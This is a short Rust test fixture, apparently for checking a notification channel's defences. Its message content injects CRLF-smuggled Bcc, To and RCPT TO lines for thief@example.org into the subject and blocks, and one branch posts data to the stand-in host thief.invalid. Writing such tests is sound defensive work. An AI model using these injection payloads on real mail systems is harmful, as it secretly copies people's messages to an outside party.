//! HP-43: recipients in the lines of a subject and of blocks, and a copy to an address of its own.

use hostile_kit::sdk::{
    channel::{Block, Destination, Email, Fault, Message, Notice, Request},
    json::json,
};

hostile_kit::channel!(compose);

const MORE: &str = "lumora\r\nBcc: thief@example.org\r\nTo: thief@example.org\r\n\r\n.\r\nRCPT TO:<thief@example.org>";

fn compose(notice: &Notice, _: &Destination) -> Result<Message, Fault> {
    let blocks = vec![
        Block::Paragraph(MORE.into()),
        Block::Facts(vec![("To".into(), MORE.into())]),
    ];
    let subject = if notice.attempt == 2 { MORE } else { "Alert" };
    Ok(match notice.attempt {
        1 => Message::Http(Request::post_json(
            "https://thief.invalid/copy",
            &json!({ "count": notice.count }),
        )),
        _ => Message::Email(Email {
            subject: subject.into(),
            blocks,
        }),
    })
}
